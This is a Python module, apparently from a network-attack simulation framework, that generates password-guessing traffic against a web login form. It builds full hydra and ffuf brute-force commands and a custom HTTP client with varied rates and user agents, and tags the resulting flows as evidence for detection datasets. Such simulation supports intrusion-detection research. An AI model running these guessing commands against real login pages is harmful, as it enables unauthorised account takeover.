# SPDX-License-Identifier: GPL-3.0-or-later
"""Password guessing at a web form: hydra, ffuf, or an own client over the login page of the sites' application.

Varied per session: the tool, tries at once and their rate, one or several tries per connection, user agents, whether the
form is fetched before each try, TLS as the client's style has it."""
import contextlib
import urllib.parse

from .. import clients
from ..behaviour import installed, threat
from . import words
from .crackers import guess_in_rounds


FORM = "application/x-www-form-urlencoded"


def _form(user, password):
    return urllib.parse.urlencode({"user": user, "password": password})


def _hydra(me):
    tasks = me.rng.choice((1, 2, 4))
    first = me.rng.choice(("", "g=:"))  # with or without fetching the form for a cookie
    agent = clients.agent(me.rng).replace(":", "\\:")

    def guess(service, users, passwords):
        module = "https-post-form" if service.facts.get("tls") else "http-post-form"
        form = f"/login:user=^USER^&password=^PASS^:{first}H=User-Agent\\: {agent}:F=failed"
        with me.talk(service):
            me.run(["hydra", "-I", "-q", "-t", tasks, "-L", words.write(me, "users", users),
                    "-P", words.write(me, "passwords", passwords), "-s", service.port, me.address(service, False), module,
                    form], timeout=40)
    return guess


def _ffuf(me):
    tasks = me.rng.choice((1, 2, 4, 8))
    pause = me.rng.choice(("0.1", "0.1-0.6", "0.3-1.5", "1.0"))
    agent = clients.agent(me.rng)

    def guess(service, users, passwords):
        names, tried = words.write(me, "users", users), words.write(me, "passwords", passwords)
        with me.talk(service):
            me.run(["ffuf", "-s", "-t", tasks, "-p", pause, "-X", "POST", "-H", f"Content-Type: {FORM}",
                    "-H", f"User-Agent: {agent}", "-w", f"{names}:NAME", "-w", f"{tried}:WORD",
                    "-d", "user=NAME&password=WORD", "-fr", "failed",
                    "-u", clients.url(me, service, "/login", named=False)], timeout=40)
    return guess


def _own(me):
    rng = me.rng
    style, tries = clients.style(me), rng.choice((1, 1, 1, 2, 4, 10))
    looks = rng.random() < 0.3  # fetches the form before each try
    gap = rng.uniform(0.05, 1.2)
    kind = {"Content-Type": FORM}

    def guess(service, users, passwords):
        pairs = [(user, password) for user in users for password in passwords]
        while pairs and not me.over():
            with contextlib.suppress(OSError, ValueError), clients.http(me, service, style=style) as web:
                for user, password in pairs[:tries]:
                    if looks and web.open:
                        web.ask("GET", "/login")
                    if web.open:
                        web.ask("POST", "/login", _form(user, password).encode(), kind)
                    me.sleep(rng.expovariate(1 / gap))
            pairs = pairs[tries:]
    return guess


@threat("guess_http_form", family="guessing", needs=("web",), tools=("hydra|ffuf",), origin="either")
def guess_http_form(me):
    service = me.choose(me.rng.choice([kind for kind in ("web", "web", "webplain") if me.services(kind)]), app=True)
    makers = [maker for name, maker in (("hydra", _hydra), ("ffuf", _ffuf)) if installed(name)] + [_own, _own]
    guess_in_rounds(me, me.rng.choice(makers)(me), service, me.rng.randrange(100, 350))


EVIDENCE = {
    "guess_http_form": ("with an answered form", lambda flow: flow.protocol == 6 and flow.bytes[0] > 300
                        and flow.bytes[1] > 400, 12),
}
